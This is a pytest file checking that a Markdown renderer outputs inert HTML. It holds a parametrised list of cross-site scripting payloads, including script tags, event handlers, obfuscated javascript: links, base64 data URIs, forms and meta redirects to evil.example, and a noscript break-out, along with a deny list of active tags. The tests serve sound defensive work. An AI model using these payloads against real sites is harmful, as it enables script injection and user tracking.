"""The brief's Markdown as HTML: rendered for people, inert for attackers.

Each attack is a brief a hostile task author could write; the output is parsed with the
standard library's HTML parser (as a browser would tokenise it) and must contain no element,
attribute or URL that could run code, load anything, or style the page.
"""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from common.markdown_safe import brief_html

ACTIVE_TAGS = {"script", "style", "iframe", "frame", "object", "embed", "img", "svg", "math",
               "link", "meta", "base", "form", "input", "button", "video", "audio", "source",
               "picture", "template", "noscript", "textarea", "select"}


class Elements(HTMLParser):
    """Every start tag with its attributes, in order."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {k: v or "" for k, v in attrs}))


def elements(html: str) -> list[tuple[str, dict[str, str]]]:
    parser = Elements()
    parser.feed(html)
    parser.close()
    return parser.found


def assert_inert(html: str) -> None:
    for tag, attrs in elements(html):
        assert tag not in ACTIVE_TAGS, (tag, html)
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name, html)
            assert name not in ("style", "src", "srcdoc", "action", "formaction", "class",
                                "id", "xlink:href"), (tag, name, html)
            if name == "href":
                assert urlsplit(value).scheme in ("http", "https", "mailto"), (value, html)
        if tag == "a":
            assert attrs.get("rel") == "noopener noreferrer", html
            assert attrs.get("target") == "_blank", html


def test_markdown_is_rendered_for_people() -> None:
    html = str(brief_html(
        "# Totals\n\nThe **nightly** totals look low: run `pytest -q`.\n\n"
        "- first\n- second\n\n## Data\n\nSee [the docs](https://example.org/docs).\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint('hi')\n```\n"))
    tags = [tag for tag, _ in elements(html)]
    assert tags[:1] == ["h2"]  # the page's own <h1> is the title: headings move one down
    assert {"h2", "h3", "strong", "code", "ul", "li", "a", "table", "th", "td", "pre"} <= \
        set(tags), html
    assert "<strong>nightly</strong>" in html and "<code>pytest -q</code>" in html
    assert "**" not in html and "`" not in html and "# " not in html
    assert '<a href="https://example.org/docs" target="_blank" rel="noopener noreferrer">' \
        in html
    assert_inert(html)


HOSTILE = {
    "script": "Hi <script>window.pwned = 1</script> there",
    "script block": "<script>\nwindow.pwned = 1\n</script>\n",
    "img onerror": '<img src="x" onerror="window.pwned = 1">',
    "svg onload": '<svg onload="window.pwned=1"><circle r="4"/></svg>',
    "iframe": '<iframe src="https://evil.example/" srcdoc="<script>x()</script>"></iframe>',
    "style": "<style>body { display: none }</style>\n\nText",
    "style attribute": '<p style="position:fixed;inset:0;background:red">cover</p>',
    "html javascript link": '<a href="javascript:window.pwned=1">click</a>',
    "markdown javascript link": "[click](javascript:window.pwned=1)",
    "entity-encoded scheme": "[click](jav&#x61;script&#58;window.pwned=1)",
    "tab inside the scheme": '<a href="jav&#x09;ascript:window.pwned=1">click</a>',
    "upper-case scheme": "[click](JAVASCRIPT:window.pwned=1)",
    "vbscript": '<a href="vbscript:msgbox(1)">click</a>',
    "data link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "remote image (a tracking pixel)": "![logo](https://tracker.example/pixel.gif?who=cand)",
    "raw remote image": '<img src="https://tracker.example/pixel.gif">',
    "autolink javascript": "<javascript:window.pwned=1>",
    "form": '<form action="https://evil.example/"><input name="p"><button>Go</button></form>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "comment": "<!-- <script>window.pwned=1</script> -->text",
    "unclosed attribute": '<a href="https://ok.example/" onclick="window.pwned=1" x="',
    "nested markdown in html": '<div onmouseover="window.pwned=1">\n\n**bold**\n\n</div>',
    "mixed case tag": "<ScRiPt>window.pwned=1</sCrIpT>",
    "noscript break-out": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
}


@pytest.mark.parametrize("source", HOSTILE.values(), ids=list(HOSTILE))
def test_a_hostile_brief_renders_inert(source: str) -> None:
    html = str(brief_html(source))
    assert_inert(html)
    assert "pwned" not in "".join(
        value for _, attrs in elements(html) for value in attrs.values()), html


def test_script_and_style_content_is_dropped_not_shown() -> None:
    html = str(brief_html("Before <script>steal()</script> <style>p{}</style> after"))
    assert "steal()" not in html and "p{}" not in html
    assert "Before" in html and "after" in html


def test_escaped_markup_stays_text() -> None:
    """Markup the author wrote as text (entities, code) is shown as text, never parsed."""
    html = str(brief_html("&lt;script&gt;x()&lt;/script&gt; and `<img src=x onerror=y()>`"))
    assert_inert(html)
    assert "&lt;script&gt;x()&lt;/script&gt;" in html
    assert "<code>&lt;img src=x onerror=y()&gt;</code>" in html


def test_images_are_never_loaded_but_can_be_followed() -> None:
    html = str(brief_html("![the pipeline](https://example.org/pipeline.png)\n\n"
                          "![local](figures/pipeline.png)"))
    assert_inert(html)
    assert '<a href="https://example.org/pipeline.png" target="_blank" ' \
        'rel="noopener noreferrer">[image: the pipeline]</a>' in html
    assert "[image: local]" in html and "figures/pipeline.png" not in html


def test_relative_links_stay_text() -> None:
    """A task's own file has no address on the landing page (it is in the workspace)."""
    html = str(brief_html("Read [the notes](notes/README.md) and [home](/s/other)."))
    assert_inert(html)
    assert "the notes" in html and "notes/README.md" not in html and "/s/other" not in html
